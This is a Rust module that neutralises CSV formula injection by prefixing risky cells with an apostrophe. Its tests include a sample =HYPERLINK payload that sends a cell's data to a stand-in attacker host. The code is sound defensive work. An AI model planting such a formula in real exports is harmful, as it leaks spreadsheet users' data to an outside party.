//! Cells a spreadsheet would run. A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is read by Excel and LibreOffice as a formula (`=HYPERLINK("http://…?"&A1)`
//! sends the sheet's data away when clicked). OWASP's rule: such a cell is written with a
//! leading `'`, which the spreadsheet shows as text and does not run.

/// Whether a spreadsheet would read `s` as a formula.
pub fn runs_as_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// `s` as a text cell that no spreadsheet runs.
pub fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    if runs_as_formula(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert!(runs_as_formula(bad), "{bad:?}");
            assert_eq!(neutralise(bad), format!("'{bad}"));
        }
        for ok in ["Nguyễn Văn An", "GL-QLTT", "53,6", "", "a=b"] {
            assert!(!runs_as_formula(ok));
            assert_eq!(neutralise(ok), ok);
        }
    }
}
